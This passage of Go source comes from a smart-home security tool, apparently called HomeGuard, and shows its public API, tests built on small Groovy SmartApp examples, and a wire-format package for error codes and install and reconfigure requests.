//	audit_store_apps, audit_findings_active        store size + live findings (gauges)
//	rpc_requests_total{method,code}                RPC calls by outcome
//	rpc_latency_seconds (histogram)                RPC edge latency
//	rpc_streams_active, rpc_stream_msgs_total      streaming edge
//	rpc_breaker_open{stage}                        0 closed, 0.5 half-open, 1 open
//	events_{published,dropped,written,sink_errors}_total, events_buffered
//	wal_appends_total, wal_fsyncs_total, wal_bytes_total,
//	wal_segments_removed_total                     write-ahead log activity
//	wal_segments, wal_last_lsn                     log shape (gauges)
//	wal_recovery_seconds                           last boot recovery duration
//	cluster_ring_version                           membership digest (gauge; differs across
//	                                               gateways iff their -nodes configs differ)
//	cluster_nodes_total, cluster_nodes_up          fleet size and live members (gauges)
//	cluster_node_up{node}                          per-node heartbeat verdict (gauge)
//	cluster_node_breaker_open{node}                per-node breaker (0/0.5/1 gauge)
//	cluster_failovers_total, cluster_recoveries_total
//	                                               node down/up transitions
//	cluster_retries_total                          routed calls retried
//	cluster_resyncs_total, cluster_resync_ops_total
//	                                               journal replays onto a new owner
//	cluster_migrations_total                       planned home migrations
//	cluster_journal_homes                          homes journaled on this gateway (gauge)
//
// Tracing. With the tracer enabled, each fleet operation records a span
// tree of per-stage timings. Root spans are install, reconfigure and
// install_batch (whose per-item installs nest under it after a prewarm
// stage); pipeline stages are extract (cache or symbolic execution),
// detect (the per-home detector, containing compile — per-app rule
// compilation — candidates — footprint-index candidate generation —
// verdict — pair-verdict cache disposition, attr cache=hit|miss — and
// solve — constraint solving for one pair), then chains, ledger or
// splice, and report. The store-audit engine (internal/audit) records
// extract, compile, candidates and pairs phases with one child span per
// worker carrying busy_ns/pairs_checked/solver_calls; the incremental
// store auditor records an audit.apply root per applied batch with
// extract, compile, candidates, pairs and delta children (attrs
// rev/tasks/added/resolved). With a WAL attached, each mutating
// operation gains a wal.append child covering the pre-ack log write,
// and boot recovery records a wal.recover root (attr records). RPC-edge
// calls add an rpc.<Method> root span (method and status-code
// attributes) above the fleet operation's tree. Disabled tracing
// is free: every span call is a nil-receiver no-op and the hot detection
// path stays allocation-free (pinned by benchmark gates in CI).
//
// Capture. Root spans that end while tracing is on enter a bounded
// capture — the 32 slowest and 32 most recent trees, rendered to JSON at
// insertion — served by homeguardd at GET /debug/requests. Spans slower
// than the tracer's threshold (-trace-slow-ms) are additionally logged
// as structured slog records (WARN, attrs span/duration/trace).
//
// Lower-level building blocks (the Groovy parser, the symbolic executor,
// the constraint solver, the platform simulator and the app corpus) live
// under internal/.
package homeguard

import (
	"fmt"
	"io"

	"homeguard/internal/audit"
	"homeguard/internal/detect"
	"homeguard/internal/envmodel"
	"homeguard/internal/events"
	"homeguard/internal/extractcache"
	"homeguard/internal/fleet"
	"homeguard/internal/frontend"
	"homeguard/internal/instrument"
	"homeguard/internal/nlp"
	"homeguard/internal/obs"
	"homeguard/internal/pairverdict"
	"homeguard/internal/rule"
	"homeguard/internal/symexec"
)

// Re-exported types so callers need only this package for the main
// workflow.
type (
	// Rule is an extracted trigger–condition–action automation rule.
	Rule = rule.Rule
	// Threat is one detected cross-app interference.
	Threat = detect.Threat
	// ThreatKind is a Table I category (AR, GC, CT, SD, LT, EC, DC).
	ThreatKind = detect.Kind
	// Config carries installation-time device bindings and values.
	Config = detect.Config
	// AppInfo is app metadata (name, description, inputs).
	AppInfo = symexec.AppInfo
	// ExtractionResult is the output of rule extraction.
	ExtractionResult = symexec.Result
	// DeviceType classifies a device's physical role.
	DeviceType = envmodel.DeviceType
	// Fleet is a sharded, goroutine-safe manager of many homes sharing
	// one extraction cache (see "Deployment at scale" above).
	Fleet = fleet.Fleet
	// FleetOptions tune a Fleet (shard count, detector options, cache).
	FleetOptions = fleet.Options
	// FleetInstallResult is what Fleet.Install returns.
	FleetInstallResult = fleet.InstallResult
	// FleetMetrics is a snapshot of fleet-wide service metrics.
	FleetMetrics = fleet.MetricsSnapshot
	// ExtractionCache is a content-addressed, singleflight-deduplicated
	// cache of extraction results, shareable between fleets and tools.
	ExtractionCache = extractcache.Cache
	// PairVerdictCache is a content-addressed, singleflight-deduplicated
	// cache of app-pair detection verdicts, shareable between fleets (see
	// "Deployment at scale" above).
	PairVerdictCache = pairverdict.Cache
	// FleetDetectorTotals aggregates per-home detector counters
	// fleet-wide (pairs checked/pruned, solver calls, verdict hits).
	FleetDetectorTotals = fleet.DetectorTotals
	// FleetBatchItem is one app of a Fleet.InstallBatch call.
	FleetBatchItem = fleet.BatchItem
	// FleetBatchResult is one batch item's outcome.
	FleetBatchResult = fleet.BatchResult
	// FleetReconfigureResult is what Fleet.Reconfigure returns: the
	// re-detected threats plus their base index in the home's
	// append-only threat log.
	FleetReconfigureResult = fleet.ReconfigureResult
	// Event is one fire-and-forget operational event (install,
	// reconfigure, threat, audit) published by a fleet with
	// FleetOptions.Events set.
	Event = events.Event
	// EventWriter is the bounded, drop-oldest asynchronous event
	// pipeline; create one with NewEventWriter.
	EventWriter = events.Writer
	// Observer bundles the process-wide observability state — metrics
	// registry, span tracer and slow-request capture (see
	// "Observability" above). Pass one via FleetOptions.Obs.
	Observer = obs.Observer
	// ObsRegistry is the Prometheus-exposition metrics registry.
	ObsRegistry = obs.Registry
	// SpanCapture is the bounded slowest+recent span-tree capture.
	SpanCapture = obs.Capture
	// StoreAuditor is the long-lived incremental store auditor: it keeps
	// the store's footprint index, compiled apps and pair verdicts across
	// revisions so each applied batch re-checks only the pairs a changed
	// app's footprint intersects (see "Performance architecture" above).
	StoreAuditor = audit.Auditor
	// StoreAuditorOptions tune a StoreAuditor (workers, shared extraction
	// cache, revision history bound, observability, events).
	StoreAuditorOptions = audit.AuditorOptions
	// StoreBatch is one store mutation set: app submits/updates plus
	// removes, applied as one revision.
	StoreBatch = audit.Batch
	// StoreRevision is the outcome of one applied batch: the new revision
	// number and its added/resolved findings delta.
	StoreRevision = audit.Revision
	// StoreFinding is one active threat attributed to its app pair.
	StoreFinding = audit.Finding
	// StoreFeed is a findings-feed response: the delta since a revision,
	// or a reset snapshot when that revision aged out of history.
	StoreFeed = audit.Feed
)

// NewFleet creates an empty fleet of homes. The zero FleetOptions value
// selects 16 shards, default detector options and a fresh cache.
func NewFleet(opts FleetOptions) *Fleet { return fleet.New(opts) }

// NewStoreAuditor returns an empty incremental store auditor. Share the
// fleet's extraction cache (StoreAuditorOptions.Extract) so store
// submissions and home installs extract each distinct source once.
func NewStoreAuditor(opts StoreAuditorOptions) *StoreAuditor { return audit.NewAuditor(opts) }

// NewObserver returns an observability bundle with a fresh registry, a
// disabled tracer (span calls are no-ops until Tracer.SetEnabled(true))
// and a default-sized slow-request capture.
func NewObserver() *Observer { return obs.NewObserver() }

// NewEventWriter returns an asynchronous event pipeline draining to
// sink: a bounded in-memory ring plus one writer goroutine. Publish
// never blocks — under backpressure the oldest buffered events are
// dropped and counted. Pass it via FleetOptions.Events; Close flushes
// what the ring still holds and closes the sink.
func NewEventWriter(sink events.Sink, opts events.Options) *EventWriter {
	return events.NewWriter(sink, opts)
}

// NewJSONEventSink returns an event sink writing one JSON object per
// line to w (os.Stdout for the classic operational log).
func NewJSONEventSink(w io.Writer) events.Sink { return events.NewJSONSink(w) }

// NewExtractionCache returns an empty, unbounded extraction cache backed
// by the symbolic executor, for sharing across fleets or batch tools.
func NewExtractionCache() *ExtractionCache { return extractcache.New() }

// NewBoundedExtractionCache returns an extraction cache holding at most
// limit results, evicting arbitrary completed entries on overflow. Use it
// for long-running services fed unvetted sources; fleets created without
// an explicit cache default to this bound (fleet.DefaultExtractEntries),
// and evictions are surfaced in cache stats and the daemon's /metrics.
func NewBoundedExtractionCache(limit int) *ExtractionCache {
	return extractcache.NewBounded(limit)
}

// NewPairVerdictCache returns an empty, unbounded pair-verdict cache,
// for sharing detection verdicts across fleets (FleetOptions.Verdicts).
func NewPairVerdictCache() *PairVerdictCache { return pairverdict.New() }

// NewBoundedPairVerdictCache returns a pair-verdict cache holding at most
// limit verdicts, evicting arbitrary completed entries on overflow. Use
// it for long-running services: reconfigures re-key an app's pairs, so an
// unbounded shared cache grows with config churn. Fleets created without
// an explicit cache default to this bound (fleet.DefaultVerdictEntries).
func NewBoundedPairVerdictCache(limit int) *PairVerdictCache {
	return pairverdict.NewBounded(limit)
}

// Threat kinds (Table I).
const (
	ActuatorRace      = detect.ActuatorRace
	GoalConflict      = detect.GoalConflict
	CovertTriggering  = detect.CovertTriggering
	SelfDisabling     = detect.SelfDisabling
	LoopTriggering    = detect.LoopTriggering
	EnablingCondition = detect.EnablingCondition
	DisablingCond     = detect.DisablingCond
)

// ExtractRules symbolically executes a SmartApp source and returns its
// rules, input declarations and metadata.
func ExtractRules(src string) (*ExtractionResult, error) {
	return symexec.Extract(src, "")
}

// NewConfig returns an empty installation configuration.
func NewConfig() *Config { return detect.NewConfig() }

// ErrAppNotInstalled reports a reconfigure of an app that is not
// installed in the home, matchable with errors.Is.
var ErrAppNotInstalled = detect.ErrAppNotInstalled

// Options tune a Home's detector.
type Options struct {
	// Modes is the home's mode universe (default Home/Away/Night).
	Modes []string
	// DisableFiltering, DisableReuse and DisablePruning are ablation
	// switches; leave false in production.
	DisableFiltering bool
	DisableReuse     bool
	DisablePruning   bool
}

// Home is one smart home protected by HomeGuard.
type Home struct {
	det *detect.Detector
}

// NewHome creates a home with an empty app set.
func NewHome(opts Options) *Home {
	return &Home{det: detect.New(detect.Options{
		Modes:            opts.Modes,
		DisableFiltering: opts.DisableFiltering,
		DisableReuse:     opts.DisableReuse,
		DisablePruning:   opts.DisablePruning,
	})}
}

// InstallResult is what the HomeGuard frontend shows the user at app
// installation.
type InstallResult struct {
	App     AppInfo
	Rules   []*Rule
	Threats []Threat
	// Chains are multi-hop interference chains through previously accepted
	// threats (Sec. VI-D).
	Chains []detect.Chain
	// Report is the rendered installation dialog.
	Report string
	// Warnings are extraction diagnostics.
	Warnings []string
}

// InstallApp extracts the app's rules and detects CAI threats against all
// previously installed apps. cfg may be nil (type-level device identity).
func (h *Home) InstallApp(src string, cfg *Config) (*InstallResult, error) {
	res, err := symexec.Extract(src, "")
	if err != nil {
		return nil, fmt.Errorf("homeguard: %w", err)
	}
	ia := detect.NewInstalledApp(res, cfg)
	threats := h.det.Install(ia)
	chains := h.det.FindChains(threats, 4)
	report := frontend.InstallDialog(res.App.Name, res.Rules.Rules, threats, chains)
	return &InstallResult{
		App:      res.App,
		Rules:    res.Rules.Rules,
		Threats:  threats,
		Chains:   chains,
		Report:   report,
		Warnings: res.Warnings,
	}, nil
}

// Accept records user-approved threats so later installs report chains
// through them.
func (h *Home) Accept(ts ...Threat) {
	for _, t := range ts {
		h.det.Accept(t)
	}
}

// ReconfigureApp updates an installed app's configuration and re-runs
// detection (the updated() lifecycle path): changing a device binding can
// resolve — or introduce — interference. An unknown app name fails with
// an error matching ErrAppNotInstalled (previously it returned nil,
// indistinguishable from "no threats").
func (h *Home) ReconfigureApp(appName string, cfg *Config) ([]Threat, error) {
	return h.det.Reconfigure(appName, cfg)
}

// Detector exposes the underlying detector for advanced use (statistics,
// pairwise queries).
func (h *Home) Detector() *detect.Detector { return h.det }

// DescribeRule renders a rule as an English sentence.
func DescribeRule(r *Rule) string { return frontend.DescribeRule(r) }

// DescribeThreat renders a threat explanation.
func DescribeThreat(t Threat) string { return frontend.DescribeThreat(t) }

// InstrumentApp rewrites a SmartApp to collect configuration information
// at install time (Sec. VII, Listing 3).
func InstrumentApp(src string) (string, error) { return instrument.Instrument(src) }

// ParseRecipe extracts a rule from IFTTT-style natural-language recipe
// text (Sec. VIII-D), returning it in the same representation as
// Groovy-extracted rules so it can flow into detection.
func ParseRecipe(app, text string) (*Rule, error) {
	rr, err := nlp.ParseRecipe(app, text)
	if err != nil {
		return nil, err
	}
	return rr.Rule, nil
}

// ClassifySwitchDescription classifies a generic switch device from app
// description text (used for type-level detection).
func ClassifySwitchDescription(description string) DeviceType {
	return nlp.ClassifySwitch(description)
}

// InstallRules installs a set of already-extracted rules (e.g. from
// ParseRecipe) as one app, enabling cross-platform detection: rules from
// IFTTT-style templates interplay with rules from Groovy apps.
func (h *Home) InstallRules(appName string, rules []*Rule, cfg *Config) []Threat {
	info := AppInfo{Name: appName}
	seen := map[string]bool{}
	addInput := func(name, capability string) {
		if name == "" || capability == "" || seen[name] {
			return
		}
		seen[name] = true
		info.Inputs = append(info.Inputs, symexec.InputDecl{
			Name: name, Type: "capability." + capability, Capability: capability,
		})
	}
	rs := &rule.RuleSet{App: appName, Rules: rules}
	rs.NumberRules()
	for _, r := range rules {
		addInput(r.Trigger.Subject, r.Trigger.Capability)
		addInput(r.Action.Subject, r.Action.Capability)
	}
	ia := &detect.InstalledApp{Info: info, Rules: rs, Config: cfg}
	if ia.Config == nil {
		ia.Config = detect.NewConfig()
	}
	return h.det.Install(ia)
}
