package homeguard

import (
	"strings"
	"testing"

	"homeguard/internal/corpus"
	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
)

func src(t *testing.T, name string) string {
	t.Helper()
	a, ok := corpus.Get(name)
	if !ok {
		t.Fatalf("corpus app %q missing", name)
	}
	return a.Source
}

func TestPublicWorkflowFig3(t *testing.T) {
	home := NewHome(Options{})

	cfg1 := NewConfig()
	cfg1.Devices["tv1"] = "dev-tv"
	cfg1.Devices["window1"] = "dev-window"
	cfg1.DeviceTypes["window1"] = envmodel.WindowOpener
	cfg1.Values["threshold1"] = rule.IntVal(30)
	r1, err := home.InstallApp(src(t, "ComfortTV"), cfg1)
	if err != nil {
		t.Fatal(err)
	}
	if len(r1.Threats) != 0 {
		t.Errorf("first app should install clean, got %v", r1.Threats)
	}
	if len(r1.Rules) != 1 {
		t.Fatalf("rules = %d", len(r1.Rules))
	}

	cfg2 := NewConfig()
	cfg2.Devices["tv1"] = "dev-tv"
	cfg2.Devices["window1"] = "dev-window"
	cfg2.DeviceTypes["window1"] = envmodel.WindowOpener
	r2, err := home.InstallApp(src(t, "ColdDefender"), cfg2)
	if err != nil {
		t.Fatal(err)
	}
	var sawAR bool
	for _, th := range r2.Threats {
		if th.Kind == ActuatorRace {
			sawAR = true
		}
	}
	if !sawAR {
		t.Fatalf("AR not reported: %v", r2.Threats)
	}
	if !strings.Contains(r2.Report, "Actuator Race") {
		t.Errorf("report missing threat title:\n%s", r2.Report)
	}
	if !strings.Contains(r2.Report, "This app defines") {
		t.Errorf("report missing rule list:\n%s", r2.Report)
	}
}

func TestExtractRulesAPI(t *testing.T) {
	res, err := ExtractRules(src(t, "ComfortTV"))
	if err != nil {
		t.Fatal(err)
	}
	if res.App.Name != "ComfortTV" || len(res.Rules.Rules) != 1 {
		t.Errorf("res = %+v", res.App)
	}
	if s := DescribeRule(res.Rules.Rules[0]); !strings.Contains(s, "window1") {
		t.Errorf("DescribeRule: %s", s)
	}
}

func TestInstrumentAppAPI(t *testing.T) {
	out, err := InstrumentApp(src(t, "ComfortTV"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "collectConfigInfo") {
		t.Error("instrumentation missing")
	}
}

func TestParseRecipeAPI(t *testing.T) {
	r, err := ParseRecipe("ifttt", "If the temperature rises above 80 then turn on the fan")
	if err != nil {
		t.Fatal(err)
	}
	if r.Action.Subject != "fan" {
		t.Errorf("action = %+v", r.Action)
	}
}

func TestRecipeRuleCrossPlatformDetection(t *testing.T) {
	// An IFTTT-extracted rule participates in detection against a Groovy
	// app: the recipe turns the fan on when hot; ACOffWhenWindowOpen-style
	// Groovy app turns the same fan off — both can hold at once.
	home := NewHome(Options{})
	cfg := NewConfig()
	cfg.Devices["fan1"] = "dev-fan"
	cfg.DeviceTypes["fan1"] = envmodel.Fan
	fanOff := `
definition(name: "FanOffOnContact", namespace: "x", author: "x",
    description: "Turn the fan off when the window contact opens.", category: "c")
input "contact1", "capability.contactSensor"
input "fan1", "capability.switch", title: "Fan"
def installed() { subscribe(contact1, "contact.open", go) }
def go(evt) { fan1.off() }
`
	if _, err := home.InstallApp(fanOff, cfg); err != nil {
		t.Fatal(err)
	}
	recipe, err := ParseRecipe("ifttt", "If the temperature rises above 80 then turn on the fan")
	if err != nil {
		t.Fatal(err)
	}
	cfg2 := NewConfig()
	cfg2.Devices["fan"] = "dev-fan"
	cfg2.DeviceTypes["fan"] = envmodel.Fan
	threats := home.InstallRules("ifttt", []*Rule{recipe}, cfg2)
	var sawAR bool
	for _, th := range threats {
		if th.Kind == ActuatorRace {
			sawAR = true
		}
	}
	if !sawAR {
		t.Errorf("cross-platform AR not detected: %v", threats)
	}
}

func TestClassifySwitchDescriptionAPI(t *testing.T) {
	if got := ClassifySwitchDescription("Turns the ceiling fan on when it is hot."); got != envmodel.Fan {
		t.Errorf("classified as %v", got)
	}
}

func TestChainsExposed(t *testing.T) {
	home := NewHome(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["tv1"] = "dev-tv"
	cfg1.Devices["window1"] = "dev-window"
	cfg1.DeviceTypes["window1"] = envmodel.WindowOpener
	r1, _ := home.InstallApp(src(t, "ComfortTV"), cfg1)
	home.Accept(r1.Threats...)
	cfg2 := NewConfig()
	cfg2.Devices["tv1"] = "dev-tv"
	r2, _ := home.InstallApp(src(t, "CatchLiveShow"), cfg2)
	home.Accept(r2.Threats...)
	heater := `
definition(name: "KeepWarm", namespace: "x", author: "x",
    description: "Heat when cold.", category: "c")
input "tSensor", "capability.temperatureMeasurement"
input "heater1", "capability.switch", title: "Heater"
def installed() { subscribe(tSensor, "temperature", go) }
def go(evt) {
    if (evt.doubleValue < 18) { heater1.on() }
}
`
	cfg3 := NewConfig()
	cfg3.Devices["heater1"] = "dev-heater"
	cfg3.DeviceTypes["heater1"] = envmodel.Heater
	r3, err := home.InstallApp(heater, cfg3)
	if err != nil {
		t.Fatal(err)
	}
	if len(r3.Chains) == 0 {
		t.Error("expected interference chains through accepted threats")
	}
}
