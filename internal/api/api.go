// Package api is the transport-neutral wire surface of the HomeGuard
// enforcement edge: the typed error envelope, the status-code vocabulary
// and the JSON request/response shapes that cmd/homeguardd's HTTP
// handlers and internal/rpc's framed transport share verbatim.
//
// Both transports speak exactly the same envelope: an operation that
// fails yields one Error{Code, Message} value, the HTTP layer writes it
// as the JSON body {"error": {...}} with HTTPStatus(Code), and the RPC
// layer carries it in the response frame with the matching gRPC status
// number. A client therefore sees ErrAppNotInstalled as 404 over HTTP
// and NOT_FOUND over RPC — the same code string either way — and a
// parity test can compare the two transports field by field.
//
// The package also owns the DTO ↔ domain conversions (configuration
// parsing, threat rendering) that used to live ad hoc inside the daemon
// handlers, so adding a transport can never fork the wire format.
package api

import (
	"context"
	"errors"
	"fmt"
	"math"
	"net/http"

	"homeguard/internal/audit"
	"homeguard/internal/corpus"
	"homeguard/internal/detect"
	"homeguard/internal/envmodel"
	"homeguard/internal/fleet"
	"homeguard/internal/frontend"
	"homeguard/internal/rule"
)

// Code is a transport-neutral status code. The vocabulary (names and
// numeric values) is gRPC's, so the RPC transport maps one-to-one and
// the HTTP transport derives its status via HTTPStatus.
type Code string

// The status codes the edge actually produces. OK never appears in an
// Error; it is the wire form of "no error".
const (
	CodeOK                 Code = "OK"
	CodeCanceled           Code = "CANCELLED"
	CodeInvalidArgument    Code = "INVALID_ARGUMENT"
	CodeDeadlineExceeded   Code = "DEADLINE_EXCEEDED"
	CodeNotFound           Code = "NOT_FOUND"
	CodeAlreadyExists      Code = "ALREADY_EXISTS"
	CodeResourceExhausted  Code = "RESOURCE_EXHAUSTED"
	CodeFailedPrecondition Code = "FAILED_PRECONDITION"
	CodeOutOfRange         Code = "OUT_OF_RANGE"
	CodeInternal           Code = "INTERNAL"
	CodeUnavailable        Code = "UNAVAILABLE"
)

// GRPC returns the code's numeric gRPC status value.
func (c Code) GRPC() int {
	switch c {
	case CodeOK:
		return 0
	case CodeCanceled:
		return 1
	case CodeInvalidArgument:
		return 3
	case CodeDeadlineExceeded:
		return 4
	case CodeNotFound:
		return 5
	case CodeAlreadyExists:
		return 6
	case CodeResourceExhausted:
		return 8
	case CodeFailedPrecondition:
		return 9
	case CodeOutOfRange:
		return 11
	case CodeUnavailable:
		return 14
	default:
		return 13 // INTERNAL
	}
}

// HTTPStatus returns the HTTP status the JSON transport writes for the
// code. The mapping follows the conventional gRPC↔HTTP table, with
// FAILED_PRECONDITION as 422 (a well-formed request the service could
// not process — extraction failures) and OUT_OF_RANGE as 400.
func (c Code) HTTPStatus() int {
	switch c {
	case CodeOK:
		return http.StatusOK
	case CodeCanceled:
		return 499 // client closed request (nginx convention)
	case CodeInvalidArgument, CodeOutOfRange:
		return http.StatusBadRequest
	case CodeDeadlineExceeded:
		return http.StatusGatewayTimeout
	case CodeNotFound:
		return http.StatusNotFound
	case CodeAlreadyExists:
		return http.StatusConflict
	case CodeResourceExhausted:
		return http.StatusTooManyRequests
	case CodeFailedPrecondition:
		return http.StatusUnprocessableEntity
	case CodeUnavailable:
		return http.StatusServiceUnavailable
	default:
		return http.StatusInternalServerError
	}
}

// Error is the typed error envelope both transports return. It
// implements error so service code can thread it through ordinary error
// returns, and it marshals to the exact JSON both wire formats carry.
type Error struct {
	Code    Code   `json:"code"`
	Message string `json:"message"`
	// RetryAfterMs, when nonzero, hints how long the client should wait
	// before retrying (set by UNAVAILABLE responses from an open circuit
	// breaker).
	RetryAfterMs int64 `json:"retryAfterMs,omitempty"`

	// cause is the wrapped underlying error, carried locally (never on
	// the wire) so errors.Is/As keep seeing through the envelope — the
	// RPC client wraps transport failures this way.
	cause error
}

// Error implements the error interface.
func (e *Error) Error() string { return fmt.Sprintf("%s: %s", e.Code, e.Message) }

// Unwrap exposes the wrapped cause (nil for wire-decoded errors).
func (e *Error) Unwrap() error { return e.cause }

// Errorf builds an Error with a formatted message.
func Errorf(code Code, format string, args ...any) *Error {
	return &Error{Code: code, Message: fmt.Sprintf(format, args...)}
}

// Wrap builds an Error that carries err as its unwrappable cause, so
// callers can classify an error into the envelope without severing the
// errors.Is chain. A nil err maps to nil.
func Wrap(code Code, err error, msg string) *Error {
	if err == nil {
		return nil
	}
	return &Error{Code: code, Message: fmt.Sprintf("%s: %v", msg, err), cause: err}
}

// FromErr maps any error the service layer produces to the envelope:
// an *Error passes through, fleet sentinels map to their codes
// (ErrUnknownHome/ErrAppNotInstalled → NOT_FOUND, ErrAppInstalled and
// ErrHomeExists → ALREADY_EXISTS, ErrBadThreatIndex → OUT_OF_RANGE), context
// expiry maps to DEADLINE_EXCEEDED/CANCELLED, and anything else — in
// practice an extraction or detection failure on a well-formed request
// — becomes FAILED_PRECONDITION. Nil maps to nil.
func FromErr(err error) *Error {
	if err == nil {
		return nil
	}
	var e *Error
	if errors.As(err, &e) {
		return e
	}
	code := CodeFailedPrecondition
	switch {
	case errors.Is(err, fleet.ErrUnknownHome), errors.Is(err, fleet.ErrAppNotInstalled):
		code = CodeNotFound
	case errors.Is(err, fleet.ErrAppInstalled), errors.Is(err, fleet.ErrHomeExists):
		code = CodeAlreadyExists
	case errors.Is(err, fleet.ErrBadThreatIndex):
		code = CodeOutOfRange
	case errors.Is(err, context.DeadlineExceeded):
		code = CodeDeadlineExceeded
	case errors.Is(err, context.Canceled):
		code = CodeCanceled
	}
	return &Error{Code: code, Message: err.Error()}
}

// ---------- request/response shapes ----------

// Config is the wire form of an installation configuration: four
// optional maps binding input names to devices, values, value lists and
// device types.
type Config struct {
	Devices     map[string]string   `json:"devices,omitempty"`
	Values      map[string]any      `json:"values,omitempty"`
	ValueLists  map[string][]string `json:"valueLists,omitempty"`
	DeviceTypes map[string]string   `json:"deviceTypes,omitempty"`
}

// ToDetect converts the wire config to the domain form. A nil receiver
// returns nil (type-level device identity). Non-integral or
// out-of-range numeric values are rejected: the rule domain is
// integral, and an implementation-dependent float→int64 conversion must
// not store garbage.
func (c *Config) ToDetect() (*detect.Config, *Error) {
	if c == nil {
		return nil, nil
	}
	cfg := detect.NewConfig()
	for k, v := range c.Devices {
		cfg.Devices[k] = v
	}
	for k, v := range c.Values {
		switch x := v.(type) {
		case string:
			cfg.Values[k] = rule.StrVal(x)
		case float64:
			if x != math.Trunc(x) {
				return nil, Errorf(CodeInvalidArgument,
					"config value %q: %v is not an integer (the rule domain is integral)", k, x)
			}
			// float64(1<<63) is exactly 2^63; anything below fits int64.
			if x < math.MinInt64 || x >= float64(1<<63) {
				return nil, Errorf(CodeInvalidArgument,
					"config value %q: %v overflows the integer domain", k, x)
			}
			cfg.Values[k] = rule.IntVal(int64(x))
		case bool:
			cfg.Values[k] = rule.BoolVal(x)
		default:
			return nil, Errorf(CodeInvalidArgument, "config value %q: unsupported type %T", k, v)
		}
	}
	for k, v := range c.ValueLists {
		cfg.ValueLists[k] = v
	}
	for k, v := range c.DeviceTypes {
		cfg.DeviceTypes[k] = envmodel.DeviceType(v)
	}
	return cfg, nil
}

// InstallRequest asks to install one app into one home. Home comes from
// the URL path over HTTP and from the body over RPC. Exactly one of
// Source (raw SmartApp Groovy) and Corpus (a built-in corpus app name)
// must be set.
type InstallRequest struct {
	Home   string  `json:"home,omitempty"`
	Source string  `json:"source,omitempty"`
	Corpus string  `json:"corpus,omitempty"`
	Config *Config `json:"config,omitempty"`
}

// ResolveSource validates the source/corpus pair and returns the Groovy
// source to install.
func (r *InstallRequest) ResolveSource() (string, *Error) {
	switch {
	case r.Source != "" && r.Corpus != "":
		return "", Errorf(CodeInvalidArgument, "set exactly one of source and corpus")
	case r.Source == "" && r.Corpus == "":
		return "", Errorf(CodeInvalidArgument, "set exactly one of source and corpus")
	case r.Corpus != "":
		app, ok := corpus.Get(r.Corpus)
		if !ok {
			return "", Errorf(CodeNotFound, "unknown corpus app %q", r.Corpus)
		}
		return app.Source, nil
	}
	return r.Source, nil
}

// Threat is the wire form of one detected cross-app interference.
type Threat struct {
	// Index is this threat's position in the home's threat log, usable
	// with accept requests. -1 in responses that carry no log positions.
	Index    int    `json:"index"`
	Kind     string `json:"kind"`
	Class    string `json:"class"`
	Rule1    string `json:"rule1"`
	Rule2    string `json:"rule2"`
	Property string `json:"property,omitempty"`
	Note     string `json:"note,omitempty"`
	Text     string `json:"text"`
}

// ThreatOf renders one threat with its log index (-1 for none).
func ThreatOf(t detect.Threat, index int) Threat {
	return Threat{
		Index:    index,
		Kind:     string(t.Kind),
		Class:    t.Kind.Class(),
		Rule1:    t.R1.QualifiedID(),
		Rule2:    t.R2.QualifiedID(),
		Property: string(t.Property),
		Note:     t.Note,
		Text:     frontend.DescribeThreat(t),
	}
}

// ThreatsOf renders threats with log indices starting at logBase; pass
// a negative logBase for responses without log positions.
func ThreatsOf(ts []detect.Threat, logBase int) []Threat {
	out := make([]Threat, 0, len(ts))
	for i, t := range ts {
		idx := -1
		if logBase >= 0 {
			idx = logBase + i
		}
		out = append(out, ThreatOf(t, idx))
	}
	return out
}

// InstallResponse is the install verdict both transports return.
type InstallResponse struct {
	HomeID   string   `json:"homeId"`
	App      string   `json:"app"`
	Rules    []string `json:"rules"`
	Threats  []Threat `json:"threats"`
	Chains   []string `json:"chains,omitempty"`
	Report   string   `json:"report"`
	Warnings []string `json:"warnings,omitempty"`
}

// InstallResponseOf converts a fleet install result to the wire form.
func InstallResponseOf(res *fleet.InstallResult) *InstallResponse {
	out := &InstallResponse{
		HomeID:   res.HomeID,
		App:      res.App.Name,
		Rules:    make([]string, 0, len(res.Rules)),
		Threats:  ThreatsOf(res.Threats, res.ThreatLogBase),
		Report:   res.Report,
		Warnings: res.Warnings,
	}
	for _, ru := range res.Rules {
		out.Rules = append(out.Rules, frontend.DescribeRule(ru))
	}
	for _, c := range res.Chains {
		out.Chains = append(out.Chains, frontend.DescribeChain(c))
	}
	return out
}

// ReconfigureRequest updates one installed app's configuration.
// Omitting Config keeps the current bindings and just re-runs detection.
type ReconfigureRequest struct {
	Home   string  `json:"home,omitempty"`
	App    string  `json:"app"`
	Config *Config `json:"config,omitempty"`
}

// ReconfigureResponse carries the threats under the new configuration.
type ReconfigureResponse struct {
	HomeID  string   `json:"homeId"`
	App     string   `json:"app"`
	Threats []Threat `json:"threats"`
}

// ReconfigureResponseOf converts a fleet reconfigure result.
func ReconfigureResponseOf(res *fleet.ReconfigureResult) *ReconfigureResponse {
	return &ReconfigureResponse{
		HomeID:  res.HomeID,
		App:     res.App,
		Threats: ThreatsOf(res.Threats, res.ThreatLogBase),
	}
}

// AcceptRequest records user-approved threats by threat-log index.
type AcceptRequest struct {
	Home    string `json:"home,omitempty"`
	Threats []int  `json:"threats"`
}

// AcceptResponse acknowledges accepted threats.
type AcceptResponse struct {
	HomeID   string `json:"homeId"`
	Accepted int    `json:"accepted"`
}

// ThreatsRequest reads a home's threat log (Active selects the
// incremental ledger's current set instead of the append-only history).
type ThreatsRequest struct {
	Home   string `json:"home,omitempty"`
	Active bool   `json:"active,omitempty"`
}

// ThreatsResponse is the threat log (or active set) of one home.
type ThreatsResponse struct {
	HomeID  string   `json:"homeId"`
	Active  bool     `json:"active,omitempty"`
	Threats []Threat `json:"threats"`
}

// AppsRequest asks for one home's installed apps.
type AppsRequest struct {
	Home string `json:"home,omitempty"`
}

// AppsResponse lists one home's installed apps in install order.
type AppsResponse struct {
	HomeID string   `json:"homeId"`
	Apps   []string `json:"apps"`
}

// InstallBatchRequest installs several apps into one home in input
// order (extractions prewarm in parallel through the shared cache).
type InstallBatchRequest struct {
	Home  string        `json:"home,omitempty"`
	Items []InstallItem `json:"items"`
}

// InstallItem is one app of a batch or stream install (no home field:
// the batch's home applies; stream items carry their own home in the
// enclosing message).
type InstallItem struct {
	Source string  `json:"source,omitempty"`
	Corpus string  `json:"corpus,omitempty"`
	Config *Config `json:"config,omitempty"`
}

// ResolveSource validates the item's source/corpus pair.
func (it *InstallItem) ResolveSource() (string, *Error) {
	r := InstallRequest{Source: it.Source, Corpus: it.Corpus}
